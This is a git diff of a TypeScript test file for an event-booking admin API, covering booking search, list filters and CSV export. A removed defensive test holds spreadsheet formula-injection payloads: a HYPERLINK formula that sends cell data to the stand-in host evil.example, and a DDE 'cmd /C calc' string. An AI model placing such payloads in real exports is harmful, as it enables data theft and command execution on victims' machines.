@@ -1,49 +1,19 @@
 import { sql } from "kysely";
 import { expect, test } from "vitest";
-import { newRowId } from "#platform/ids.ts";
-import { anEventDraft } from "#tests/builders/event-draft.ts";
 import { anOrganizersApi } from "#tests/builders/organizers-api.ts";
-import { aVisitor, payAt } from "#tests/builders/visitor.ts";
+import { aSaleByApi, idOf } from "#tests/builders/published-event.ts";
+import { aVisitor } from "#tests/builders/visitor.ts";
 
 const opened = await anOrganizersApi();
 const { door, organizer } = opened;
 
-type Saved = { id: string; slug: string; categories: { id: string }[]; questions: { id: string }[] };
+const { anEventOf, aConfirmedVisitor } = aSaleByApi(opened);
 
-async function anEventOf(change = {}): Promise<Saved> {
-  const saved: Saved = (await organizer.ask("POST", "/api/admin/events", anEventDraft(change))).body;
-  await organizer.ask("POST", `/api/admin/events/${saved.slug}/publish`, {});
-  return saved;
-}
-
-/** The id of the event's n-th category or question. */
-const idOf = (parts: { id: string }[], index = 0): string => parts[index]?.id ?? "";
-
-/** Somebody who went through the whole sale and paid. */
-async function aConfirmedVisitor({ slug, categories }: Saved, person: object = {}) {
-  const visitor = aVisitor(door, { slug, categoryId: idOf(categories) });
-  Object.assign(visitor.person, person);
-  const orderId = await visitor.toCheckout();
-  const paid = await visitor.verify(await payAt(opened.razorpay.url, orderId));
-  expect(paid.body.state).toBe("confirmed");
-  return visitor;
-}
-
-const listed = async (slug: string, query: { search?: string; state?: string } = {}) =>
-  (await organizer.ask("POST", `/api/admin/events/${slug}/bookings/search`, query)).body;
+const listed = async (
+  slug: string,
+  query: { search?: string; state?: string; mark?: string; categoryId?: string } = {},
+) => (await organizer.ask("POST", `/api/admin/events/${slug}/bookings/search`, query)).body;
 const namesOf = (page: { bookings: { name: string }[] }) => page.bookings.map((booking) => booking.name).sort();
-
-/** Rows of a CSV whose cells hold no line break. */
-async function exported(slug: string, query = ""): Promise<{ text: string; header: string[]; rows: string[][] }> {
-  const reply = await door(`/api/admin/events/${slug}/participants.csv?${query}`, { headers: organizer.headers });
-  const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await reply.arrayBuffer());
-  const cellsOf = (line: string) =>
-    [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,]*))/g)].map(
-      ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? "",
-    );
-  const [header = "", ...lines] = text.slice(1).trimEnd().split("\r\n");
-  return { text, header: cellsOf(header), rows: lines.map(cellsOf) };
-}
 
 test("the counts say who has a place, what was paid, and what is owed to people", async () => {
   const event = await anEventOf();
@@ -91,6 +61,47 @@ test("bookings are found by part of a name, number, address or reference", async
   expect(namesOf(await listed(event.slug, { search: "nobody" }))).toEqual([]);
 });
 
+test("a reference that was misread finds its booking: O for 0, B for 8 and the other way round", async () => {
+  const event = await anEventOf();
+  const { reference } = (await (await aConfirmedVisitor(event, { name: "Meera Joshi" })).look()).body;
+  const misread = reference.replace(
+    /[0O8B1S5Z2]/g,
+    (letter: string) => ({ 0: "O", O: "0", 8: "B", B: "8", 1: "I", S: "5", 5: "S", Z: "2", 2: "Z" })[letter] as string,
+  );
+  const found = namesOf(await listed(event.slug, { search: misread }));
+  // One without any digit left is looked for as a name.
+  expect(found).toEqual(/\d/.test(misread) ? ["Meera Joshi"] : found);
+});
+
+test("the list narrows to one category, to refunds, and to messages that failed", async () => {
+  const event = await anEventOf();
+  const meera = await aConfirmedVisitor(event, { name: "Meera Joshi" });
+  await aConfirmedVisitor(event, { name: "Asha Rao" });
+  const [far, near] = [idOf(event.categories), idOf(event.categories, 1)];
+  const { db } = opened.startline;
+  await sql`UPDATE messages SET state = 'bounced' WHERE event_id = ${event.id} AND channel = 'email' AND booking_id = ${meera.bookingId}`.execute(
+    db,
+  );
+
+  expect(namesOf(await listed(event.slug, { categoryId: far }))).toEqual(["Asha Rao", "Meera Joshi"]);
+  expect(namesOf(await listed(event.slug, { categoryId: near }))).toEqual([]);
+  expect(namesOf(await listed(event.slug, { mark: "message_failed" }))).toEqual(["Meera Joshi"]);
+  expect(namesOf(await listed(event.slug, { mark: "message_failed", search: "rao" }))).toEqual([]);
+  expect(namesOf(await listed(event.slug, { mark: "refunded" }))).toEqual([]);
+  expect(namesOf(await listed(event.slug, { mark: "not_arrived" }))).toEqual(["Asha Rao", "Meera Joshi"]);
+  const arrived = { id: "record-1", bookingId: meera.bookingId, kind: "check_in", undoes: null, collectedBy: null };
+  await organizer.ask("POST", `/api/admin/events/${event.slug}/check-in/records`, {
+    device: { id: "device-1", name: "Counter 1" },
+    records: [{ ...arrived, doneAt: "2026-11-01T01:40:00.000Z" }],
+    since: null,
+    after: null,
+  });
+  expect(namesOf(await listed(event.slug, { mark: "not_arrived" }))).toEqual(["Asha Rao"]);
+  const cancel = { scope: "full", note: "The rider called", amountPaise: 152_500 };
+  await organizer.ask("POST", `/api/admin/events/${event.slug}/bookings/${meera.bookingId}/cancel`, cancel);
+  expect(namesOf(await listed(event.slug, { mark: "refunded" }))).toEqual(["Meera Joshi"]);
+});
+
 test("what is searched for is text, not a pattern and not SQL", async () => {
   const event = await anEventOf();
   await aConfirmedVisitor(event, { name: "Meera Joshi", email: "meera_j@club.example" });
@@ -116,74 +127,4 @@ test("a place that nobody keeps any more is listed as expired before any job wro
 
   expect((await listed(event.slug, { state: "expired" })).total).toBe(1);
   expect((await listed(event.slug, { state: "held" })).total).toBe(0);
-});
-
-test("the export is UTF-8 with a byte order mark, and has all that the organizer needs of each participant", async () => {
-  const event = await anEventOf({
-    questions: [{ id: "", label: "Jersey size", options: ["S", "M"], isRequired: false }],
-  });
-  await aConfirmedVisitor(event, {
-    name: "मीरा जोशी",
-    phone: "+919812300003",
-    email: "m@club.example",
-    answers: { [idOf(event.questions)]: "M" },
-  });
-
-  const { text, header, rows } = await exported(event.slug);
-  expect(text.charCodeAt(0)).toBe(0xfeff);
-  const row = Object.fromEntries(header.map((name, index) => [name, rows[0]?.[index]]));
-  expect(row).toMatchObject({
-    state: "confirmed",
-    category: "100 km",
-    name: "मीरा जोशी",
-    phone: "91 98123 00003",
-    email: "m@club.example",
-    language: "en",
-    amount_rupees: "1525",
-    platform_fee_rupees: "25",
-    waiver_version: "1",
-    queue_number: "1",
-    "Jersey size": "M",
-    other_answers: "",
-  });
-  expect(row.reference).toMatch(/^\w{4}-\w{4}$/);
-  expect(row.payment_id).toMatch(/^pay_/);
-  expect(row.confirmed_at_ist).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/);
-});
-
-test("no cell of the export can be run as a formula", async () => {
-  const event = await anEventOf({ questions: [{ id: "", label: "=Note", isRequired: false }] });
-  await aConfirmedVisitor(event, {
-    name: '=HYPERLINK("http://evil.example?"&A1,"Asha")',
-    answers: { [idOf(event.questions)]: "@SUM(1+1)*cmd|' /C calc'!A0" },
-  });
-  await aConfirmedVisitor(event, { name: "-2+3 Asha", answers: { [idOf(event.questions)]: "+1" } });
-
-  const { header, rows } = await exported(event.slug);
-  const cells = [...header, ...rows.flat()];
-  expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
-  expect(cells).toContain(`'=HYPERLINK("http://evil.example?"&A1,"Asha")`);
-});
-
-test("the export has every row exactly once, however many reads it takes", async () => {
-  const event = await anEventOf({
-    capacity: 5000,
-    categories: [{ id: null, name: "100 km", capacity: 5000, ticketPricePaise: 1000 }],
-  });
-  const wanted = 1203;
-  const ids = Array.from({ length: wanted }, () => newRowId("bkg", event.id));
-  // Many share a microsecond, so that only the id tells them apart.
-  await sql`INSERT INTO bookings (event_id, id, category_id, reference, state, ticket_id, amount_paise, platform_fee_paise,
-      hold_expires_at, kept_until, created_at, confirmed_at)
-    SELECT ${event.id}, b, ${idOf(event.categories)}, b, CASE WHEN n % 3 = 0 THEN 'released' ELSE 'confirmed' END, b, 3500, 2500, now(), now(),
-      timestamptz '2026-11-22 10:00:00.123456Z' + (n / 700) * interval '1 microsecond',
-      CASE WHEN n % 3 = 0 THEN NULL ELSE timestamptz '2026-11-22 10:00:00.123456Z' + (n / 700) * interval '1 microsecond' END
-    FROM unnest(${ids}::text[]) WITH ORDINALITY AS u (b, n)`.execute(opened.startline.db);
-
-  const all = await exported(event.slug, "all=1");
-  expect(new Set(all.rows.map((row) => row[0])).size).toBe(wanted);
-  expect(all.rows).toHaveLength(wanted);
-  const confirmed = await exported(event.slug);
-  expect(confirmed.rows).toHaveLength(802);
-  expect(new Set(confirmed.rows.map((row) => row[1]))).toEqual(new Set(["confirmed"]));
 });
